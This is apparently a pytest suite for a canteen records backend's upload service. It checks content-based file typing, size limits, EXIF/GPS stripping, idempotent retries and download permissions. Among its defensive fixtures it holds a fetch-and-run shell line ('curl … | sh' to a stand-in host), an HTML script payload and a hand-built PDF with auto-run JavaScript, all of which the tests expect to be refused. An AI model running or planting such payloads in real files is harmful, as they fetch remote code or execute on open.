"""Uploads judged by content, size limits, EXIF/GPS stripping and signed downloads, on the local store and on
S3 through boto3 and moto_server."""

from __future__ import annotations

import hashlib
import io
import uuid

import pytest
import requests
from PIL import Image

from backend.extensions import db
from tests.conftest import truncate_all
from tests.records.helpers import API, Kit, gps_exif, jpeg, pdf, png, webp


@pytest.fixture
def store_app(store_config):
    """The app on each object store (local folder, S3 on moto_server), with the demo seeded."""
    from backend import create_app
    from backend.cli import seed_demo

    application = create_app(store_config)
    with application.app_context():
        truncate_all(db.engine)
        seed_demo()
        yield application
        db.session.remove()
        truncate_all(db.engine)
        db.engine.dispose()


@pytest.fixture
def sk(store_app):
    """``sk(openid)`` → a Kit on the parametrised store."""
    from sqlalchemy import select

    from backend.accounts.models import User
    from backend.accounts.services import issue_session

    client = store_app.test_client()

    def make(openid: str, canteen_id: int = 1) -> Kit:
        user = db.session.scalar(select(User).where(User.openid == openid))
        token = issue_session(user, 24).token
        db.session.commit()
        return Kit(client, {"Authorization": f"Bearer {token}"}, canteen_id)

    return make


def _fetch(store_app, url):
    """GET a signed URL: the api serves local-store URLs, S3 serves presigned ones."""
    if url.startswith("/"):
        response = store_app.test_client().get(url)
        return response.status_code, response.data
    response = requests.get(url, timeout=10)
    return response.status_code, response.content


def _stored(store_app, upload_id):
    from backend.files import object_store
    from backend.records.models import Upload

    return object_store().get(db.session.get(Upload, upload_id).key)


def test_jpeg_with_gps_exif_is_stored_without_it(store_app, sk):
    manager = sk("demo-manager-1")
    original = jpeg(size=(120, 80), exif=gps_exif())
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)  # the fixture really carries GPS
    body = manager.upload(original, "IMG_0001.jpg").get_json()
    assert body["content_type"] == "image/jpeg" and (body["width"], body["height"]) == (120, 80)
    stored = _stored(store_app, body["id"])
    assert hashlib.sha256(stored).hexdigest() == body["sha256"] and len(stored) == body["size"]
    image = Image.open(io.BytesIO(stored))
    assert dict(image.getexif()) == {} and image.getexif().get_ifd(0x8825) == {}
    assert b"Exif\x00\x00" not in stored and b"PhoneCam" not in stored
    from backend.records.models import Upload

    row = db.session.get(Upload, body["id"])
    assert row.original_sha256 == hashlib.sha256(original).hexdigest() and row.original_size == len(original)
    assert row.uploader_id is not None and row.original_filename == "IMG_0001.jpg"
    status, data = _fetch(store_app, body["url"])
    assert status == 200 and data == stored


def test_png_renamed_pdf_is_judged_by_content(store_app, sk):
    body = sk("demo-manager-1").upload(png(), "licence.pdf", content_type="application/pdf").get_json()
    assert body["content_type"] == "image/png"
    from backend.records.models import Upload

    assert db.session.get(Upload, body["id"]).key.endswith(".png")
    assert Image.open(io.BytesIO(_stored(store_app, body["id"]))).format == "PNG"


def test_script_renamed_jpg_is_refused(store_app, sk):
    script = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
    response = sk("demo-manager-1").upload(script, "photo.jpg", expect=415)
    assert response.get_json()["error"]["code"] == "unsupported_file_type"
    assert response.get_json()["error"]["message"] == "仅支持 JPEG、PNG、WebP 图片和 PDF 文件"
    html = sk("demo-manager-1").upload(b"<html><script>alert(1)</script></html>", "a.png", expect=415)
    assert html.get_json()["error"]["code"] == "unsupported_file_type"


def test_truncated_jpeg_is_refused(store_app, sk):
    whole = jpeg(size=(400, 300), quality=95)
    response = sk("demo-manager-1").upload(whole[: len(whole) // 2], "cut.jpg", expect=422)
    assert response.get_json()["error"]["code"] == "file_corrupt"


def test_eleven_megabytes_is_413(store_app, sk):
    big = jpeg()[:-2] + b"\x00" * (11 * 1024 * 1024)
    response = sk("demo-manager-1").upload(big, "big.jpg", expect=413)
    assert response.get_json()["error"]["code"] == "payload_too_large"
    from backend.records.models import Upload

    assert db.session.query(Upload).count() == 0


def test_file_just_over_the_limit_is_413_from_the_upload_check(store_app, sk):
    # Within the request-size margin (multipart overhead), so the upload check itself refuses it.
    over = b"\xff\xd8\xff" + b"\x00" * (10 * 1024 * 1024 - 2)
    response = sk("demo-manager-1").upload(over, "big.jpg", expect=413)
    assert response.get_json()["error"]["code"] == "file_too_large"
    assert response.get_json()["error"]["details"] == {"max_bytes": 10 * 1024 * 1024, "size": 10 * 1024 * 1024 + 1}


def test_webp_and_pdf_are_accepted(store_app, sk):
    manager = sk("demo-manager-1")
    assert manager.upload(webp(), "a.webp").get_json()["content_type"] == "image/webp"
    document = pdf()
    body = manager.upload(document, "report.pdf").get_json()
    assert (body["content_type"], body["pages"]) == ("application/pdf", 1)
    assert _stored(store_app, body["id"]) == document  # PDFs are kept byte for byte


def test_downloads_only_for_readers_of_the_record(store_app, sk):
    manager = sk("demo-manager-1")
    photo = manager.photo()
    parent, other_parent = sk("demo-parent-1"), sk("demo-parent-2")
    # Not attached to any record yet: the uploader and the canteen's writers only.
    assert parent.get(f"/uploads/{photo}/url", expect=404).get_json()["error"]["code"] == "not_found"
    assert sk("demo-staff-1").get(f"/uploads/{photo}/url").status_code == 200
    supplier = manager.supplier()
    manager.create("certificates", {"supplier_id": supplier, "kind": "business_licence", "number": "1",
                                    "valid_until": "2099-01-01", "scan_upload_ids": [photo]})
    body = parent.get(f"/uploads/{photo}/url").get_json()
    status, _ = _fetch(store_app, body["url"])
    assert status == 200
    assert other_parent.get(f"/uploads/{photo}/url", expect=403).get_json()["error"]["code"] == "forbidden"
    assert sk("demo-regulator").get(f"/uploads/{photo}/url").status_code == 200


def test_upload_rules(store_app, sk):
    parent = sk("demo-parent-1")
    assert parent.upload(jpeg(), expect=403).get_json()["error"]["code"] == "forbidden"
    assert sk("demo-manager-2").upload(jpeg(), expect=403).status_code == 403  # canteen 1 is not theirs
    manager = sk("demo-manager-1")
    assert manager.upload(jpeg(), canteen_id=999, expect=404).get_json()["error"]["code"] == "not_found"
    assert manager.upload(b"", "empty.jpg", expect=422).get_json()["error"]["code"] == "file_empty"
    no_key = manager.client.post(f"{API}/uploads", headers=manager.headers, content_type="multipart/form-data",
                                 data={"canteen_id": "1", "file": (io.BytesIO(jpeg()), "a.jpg")})
    assert no_key.status_code == 400 and no_key.get_json()["error"]["code"] == "idempotency_key_required"
    no_file = manager.client.post(f"{API}/uploads", headers={**manager.headers, "Idempotency-Key": uuid.uuid4().hex},
                                  content_type="multipart/form-data", data={"canteen_id": "1"})
    assert no_file.status_code == 422 and "file" in no_file.get_json()["error"]["details"]["fields"]


def test_retried_upload_stores_once(store_app, sk):
    manager = sk("demo-manager-1")
    first = manager.upload(jpeg(), key="upload-retry-0001")
    second = manager.upload(jpeg(), key="upload-retry-0001")
    assert first.headers["Idempotent-Replayed"] == "false" and second.headers["Idempotent-Replayed"] == "true"
    assert first.get_json()["id"] == second.get_json()["id"]
    from backend.records.models import Upload

    assert db.session.query(Upload).count() == 1
    reused = manager.upload(png(), key="upload-retry-0001", expect=422)
    assert reused.get_json()["error"]["code"] == "idempotency_key_reused"


def test_active_pdf_and_broken_pdf_are_refused(store_app, sk):
    manager = sk("demo-manager-1")
    scripted = _pdf_with_javascript()
    response = manager.upload(scripted, "x.pdf", expect=422)
    assert response.get_json()["error"]["code"] == "pdf_active_content"
    assert "/JavaScript" in response.get_json()["error"]["details"]["found"]
    truncated = pdf()[:200]
    assert manager.upload(truncated, "cut.pdf", expect=422).get_json()["error"]["code"] == "file_corrupt"


def _pdf_with_javascript() -> bytes:
    """A one-page PDF whose catalog runs JavaScript when opened (built by hand, with a correct xref)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>",
               b"<< /S /JavaScript /JS (app.alert(1);) >>"]
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)
